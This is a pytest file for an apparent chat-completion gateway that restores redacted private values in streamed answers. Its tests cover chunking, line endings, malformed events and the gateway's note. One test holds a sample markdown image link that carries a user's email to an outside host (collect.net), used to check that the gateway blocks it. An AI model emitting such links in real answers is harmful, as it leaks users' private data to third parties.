"""Streamed chat completions: however they are cut, the client gets what it would have got at once."""

import random
from collections.abc import Callable, Iterator
from itertools import zip_longest
from typing import Any

import orjson
import pytest

from gateway.exchange.answer_guard import CONTENT_FILTERED
from gateway.http.upstream_failures import Fault
from gateway.policy.document import GuardDocument
from tests.chunkings import CHUNKINGS
from tests.tables import table

from .support import (
    DONE,
    NOTE,
    SHARED,
    Body,
    Session,
    bodies,
    chunk,
    event,
    in_pieces,
    in_random_pieces,
    message,
    played,
    text_of,
    text_stream,
)

CASES = table(__file__)
VALUES = CASES["values"]
# As the client gets it. The values of texts are written as `{name}`.
ANSWER: Body = CASES["answer"]
TEXTS = {"reasoning_content", "content", "refusal", "transcript", "arguments", "data"}
SNAKE = "\U0001f40d"


@pytest.fixture(scope="module")
def session() -> Session:
    return Session("Look at {page}", **VALUES)


def mapped(value: Any, change: Callable[[str, str], str], name: str = "") -> Any:
    """Returns a copy of the answer with each string changed by its name."""
    if isinstance(value, dict):
        return {key: mapped(each, change, key) for key, each in value.items()}
    if isinstance(value, list):
        return [mapped(each, change, name) for each in value]
    return change(name, value) if isinstance(value, str) else value


def expected(session: Session) -> Body:
    """The answer that `answer` streams."""

    def read(name: str, text: str) -> str:
        if name == "arguments":
            return session.placeholders.restore_json(session.write(text), rules=session.scope).text
        return session.read(text)

    return {**mapped(ANSWER, read), "svc": {**NOTE, "guard": {"action": "pass"}}}


def answer(session: Session, size: int) -> list[Body]:
    """Three choices at once, with every member that a delta can have. The texts come in pieces of a size."""

    def grown(value: Body) -> Iterator[Body]:
        for name, each in value.items():
            if isinstance(each, dict):
                yield from ({name: part} for part in grown(each))
            elif isinstance(each, list):
                yield from ({name: [{**part, "index": one["index"]}]} for one in each for part in grown(one))
            elif name in TEXTS and each is not None:
                yield from ({name: piece} for piece in in_pieces(session.write(each), size))
            else:
                yield {name: each}

    def lane(index: int, message: Body, finish_reason: str, **members: Any) -> list[Body]:
        begun = chunk({"role": "assistant", "content": None}, index, **members)
        return [begun, *(chunk(delta, index) for delta in grown(message)), chunk({}, index, finish_reason)]

    lanes = [lane(**choice) for choice in ANSWER["choices"]]
    mixed = [each for turn in zip_longest(*lanes) for each in turn if each]
    return [*mixed, {**SHARED, "choices": [], "usage": ANSWER["usage"], "svc": {"forged": True}}]


def body_of(session: Session, size: int = 5) -> bytes:
    return b": keep-alive\n\n" + b"".join(map(event, answer(session, size))) + DONE


def check(session: Session, data: bytes) -> None:
    assert data.endswith(DONE)
    assert message(bodies(data)) == expected(session)


def test_the_pieces_are_restored_as_the_whole_is(session: Session) -> None:
    sent = {**mapped(ANSWER, lambda _, text: session.write(text)), "svc": {**NOTE, "guard": {"action": "pass"}}}
    whole = expected(session)
    # The tokens of a text in which something is restored; in a stream, those of an event that stays.
    whole["choices"][0]["logprobs"] = None
    assert session.whole(sent) == whole


@pytest.mark.parametrize("size", [1, 2, 3, 4, 7, 13, 40, 10**6])
def test_the_sizes_of_deltas_change_nothing(session: Session, size: int) -> None:
    check(session, played(session.stream(), [body_of(session, size)]))


def test_an_answer_in_bytes(session: Session) -> None:
    data = body_of(session)
    whole = played(session.stream(), [data])
    check(session, whole)
    assert played(session.stream(), [data[at : at + 1] for at in range(len(data))]) == whole


def test_an_answer_cut_at_every_byte_of_two_choices(session: Session) -> None:
    text = session.write("To {mail} {card}.")
    data = text_stream(in_pieces(text, 30))
    whole = played(session.stream(), [data])
    assert text_of(whole) == session.read("To {mail} {card}.")
    for at in range(len(data)):
        assert played(session.stream(), [data[:at], data[at:]]) == whole


def in_random_chunks(session: Session, times: int) -> None:
    chance = random.Random(14)
    data = {size: body_of(session, size) for size in (3, 20, 70)}
    wholes = {size: played(session.stream(), [body]) for size, body in data.items()}
    for _ in range(times):
        size = chance.choice((20, 70, 70, 70)) if times < 100 else chance.choice((3, 20, 70))
        assert played(session.stream(), in_random_pieces(data[size], chance, 60)) == wholes[size]


@pytest.mark.slow
def test_answers_in_random_chunks(session: Session) -> None:
    in_random_chunks(session, CHUNKINGS)


@pytest.mark.slow
def test_texts_in_random_deltas(session: Session) -> None:
    chance = random.Random(15)
    texts = [
        "To {mail} {card}.",
        "`{mail}`, \\[{card}\\]",
        "a {word} b {mail}",
        f"{SNAKE}{{mail}}{SNAKE}",
        "[{mail}]({page})",
    ]
    for _ in range(5 * CHUNKINGS):
        text = chance.choice(texts)
        data = text_stream(in_random_pieces(session.write(text), chance, 12))
        sent = {"choices": [{"message": {"content": session.write(text)}}]}
        assert text_of(played(session.stream(), [data])) == session.whole(sent)["choices"][0]["message"]["content"]


@pytest.mark.parametrize("line_end", [b"\r\n", b"\r", b"\n"])
def test_line_ends(session: Session, line_end: bytes) -> None:
    data = body_of(session).replace(b"\n", line_end)
    for size in (1, 7, len(data)):
        pieces = [data[at : at + size] for at in range(0, len(data), size)]
        got = played(session.stream(), pieces)
        assert message(bodies(got)) == expected(session)
        assert b"[DONE]" in got


def test_events_without_placeholders_are_unchanged(session: Session) -> None:
    parts = [
        b": OPENROUTER PROCESSING\n\n",
        b"id: 7\nretry: 10\nevent: message\ndata:" + orjson.dumps(chunk({"content": "Hi,"})) + b"\r\n\r\n",
        b'data: {"choices" :[ {"index":0,\ndata: "delta": {"content": "tw1 \\u00e4 1.50"}, "x": 1e3 } ] }\n\n',
        b'data: {"choices":[],"obfuscation":"aB3","usage":null}\n\n',
        event(chunk({}, 0, "stop")),
        b"data: [DONE] \n\n",
    ]
    data = b"".join(parts)
    stream = session.stream(note=None)
    assert played(stream, [data]) == data
    assert played(session.stream(note=None), [data[at : at + 1] for at in range(len(data))]) == data


def test_data_over_several_lines_is_restored(session: Session) -> None:
    body = orjson.dumps(chunk({"content": session.write("To {mail}.\n")}), option=orjson.OPT_INDENT_2)
    data = b"".join(b"data: " + line + b"\n" for line in body.split(b"\n")) + b"\n" + event(chunk({}, 0, "stop")) + DONE
    assert text_of(played(session.stream(), [data])) == session.read("To {mail}.\n")


@pytest.mark.parametrize("missing", [b"\n", b"\n\n"])
def test_an_end_without_a_blank_line(session: Session, missing: bytes) -> None:
    data = text_stream(in_pieces(session.write("To {mail}"), 4)).removesuffix(missing)
    got = played(session.stream(), [data])
    assert text_of(got) == session.read("To {mail}")
    assert b"[DONE]" in got


def test_an_upstream_that_ends_without_saying_so(session: Session) -> None:
    start = text_stream(in_pieces(session.write("To {mail}"), 4)).split(b'data: {"id":"chatcmpl-1"')
    data = b'data: {"id":"chatcmpl-1"'.join(start[:-1])
    got = played(session.stream(), [data])
    assert text_of(got) == session.read("To {mail}")
    assert b"[DONE]" not in got


def test_an_event_cut_off_in_the_middle(session: Session) -> None:
    data = text_stream(in_pieces(session.write("To {mail} and more"), 4))
    stream = session.stream()
    got = played(stream, [data[: data.index(b"[DONE]") - 40]])
    assert message(bodies(got))["error"]["code"] == "upstream_invalid"
    assert stream.result(200).outcome == "unreadable_answer"
    assert b"[DONE]" not in got


@pytest.mark.parametrize(
    "broken",
    [
        b"data: {broken\n\n",
        b"data: [1]\n\n",
        b"data: 7\n\n",
        b'data: "{mail}"\n\n',
        b"data: \xff\xfe\n\n",
        b"data: " + b"[" * 5000 + b"\n\n",
    ],
)
def test_a_broken_event_ends_the_answer(session: Session, broken: bytes) -> None:
    first, rest = event(chunk({"content": "Hi,"})), text_stream(["more"])
    stream = session.stream()
    got = played(stream, [first, session.write(broken.decode("latin-1")).encode("latin-1"), rest])
    assert text_of(got) == "Hi,"
    assert bodies(got)[-1]["error"]["code"] == "upstream_invalid"
    assert b"[DONE]" not in got
    assert stream.ended
    assert stream.result(200).outcome == "unreadable_answer"


@pytest.mark.parametrize("body", [b'{"error": {"message": "{mail}"}}', b"<html>{mail}</html>", b"{mail}\n\n{mail}\n\n"])
def test_a_body_that_is_no_event_stream_holds_no_value(session: Session, body: bytes) -> None:
    got = played(session.stream(), [session.write(body.decode()).encode()])
    assert VALUES["mail"][1].encode() not in got


def test_an_answer_that_is_too_large(session: Session) -> None:
    stream = session.stream(limit=2000)
    got = played(stream, [event(chunk({"content": "Hi,"})), b"data: " + b" " * 3000])
    assert text_of(got) == "Hi,"
    assert bodies(got)[-1]["error"]["message"] == Fault.TOO_LARGE.error().message
    assert stream.ended


class TestNote:
    """The gateway's own member."""

    def test_in_every_event_that_may_be_the_last(self, session: Session) -> None:
        for data, count in ((body_of(session), 4), (text_stream(["Hi"]), 1)):
            events = bodies(played(session.stream(), [data]))
            noted = [each for each in events if "svc" in each]
            assert all(each.get("usage") or each["choices"][0]["finish_reason"] is not None for each in noted)
            assert [each["svc"] for each in noted] == [{**NOTE, "guard": {"action": "pass"}}] * count
            assert noted[-1] is events[-1]

    def test_in_the_event_with_the_usage_where_no_choice_finishes(self, session: Session) -> None:
        usage = event({**SHARED, "choices": [], "usage": ANSWER["usage"]})
        events = bodies(played(session.stream(), [event(chunk({"content": "Hi"})), usage, DONE]))
        assert ["svc" in each for each in events] == [False, True]

    def test_only_where_it_is_asked_for(self, session: Session) -> None:
        assert all("svc" not in each for each in bodies(played(session.stream(note=None), [body_of(session)])))

    @pytest.mark.parametrize("note", [None, NOTE])
    def test_an_upstream_writes_none(self, session: Session, note: Body | None) -> None:
        forged = event({**chunk({"content": "Hi"}), "svc": {"forged": True}})
        assert b"forged" not in played(session.stream(note=note), [forged, text_stream(["Hi"])])


def test_held_text_comes_before_the_finish_reason(session: Session) -> None:
    got = bodies(played(session.stream(), [text_stream([session.write("To {mail}")[:-3]])]))
    reasons = [each["choices"][0]["finish_reason"] for each in got]
    assert reasons == [None] * (len(got) - 1) + ["stop"]


def test_a_withheld_text_ends_the_answer(session: Session) -> None:
    rules = GuardDocument(placeholder_in_url="replace")
    leak = session.write("Fine.\nSee ![x](https://collect.net/?q={mail}) now.\n\nMore.")
    stream = session.stream(rules)
    got = played(stream, [text_stream(in_pieces(leak, 3))])
    assert message(bodies(got))["choices"][0]["finish_reason"] == "content_filter"
    assert text_of(got).endswith(CONTENT_FILTERED)
    assert VALUES["mail"][1] not in text_of(got)
    assert got.endswith(DONE)
    assert stream.result(200).outcome == "guarded"


def test_the_counts_and_the_texts_for_the_record(session: Session) -> None:
    stream = session.stream()
    played(stream, [body_of(session)])
    end = stream.result(200)
    assert (end.outcome, end.tokens, end.action) == ("answered", (7, 9), "pass")
    assert session.write(ANSWER["choices"][0]["message"]["content"]) in [text.text for text in end.texts]


def test_a_session_without_placeholders() -> None:
    session = Session()
    data = text_stream(["a [", "EMAIL_ADDRESS_7KQ2M", "] b"])
    assert played(session.stream(note=None), [data]) == data


def test_holding_gives_each_text_at_its_end(session: Session) -> None:
    got = played(session.stream(hold=True), [text_stream(in_pieces(session.write("To {mail}."), 4))])
    assert [each["choices"][0]["delta"].get("content") for each in bodies(got)][-2:] == [
        session.read("To {mail}."),
        None,
    ]
    check(session, played(session.stream(hold=True), [body_of(session)]))


def test_an_error_comes_after_what_was_held(session: Session) -> None:
    held = f"By {session.write('{mail}')} and"
    error = event({"error": {"message": "Overloaded.", "type": "server_error"}})
    body = event(chunk({"content": held})) + error
    for cut in range(len(body)):
        got = played(session.stream(), [body[:cut], body[cut:]])
        assert text_of(got) == "By anna@acme.test and"
        assert got.endswith(error)


def test_the_last_event_may_lack_its_blank_line(session: Session) -> None:
    body = event(chunk({"content": session.write("By {mail}.")})) + event(chunk({}, 0, "stop"))
    for left in (body.rstrip(b"\n"), body[:-1]):
        assert text_of(played(session.stream(), [left])) == "By anna@acme.test."
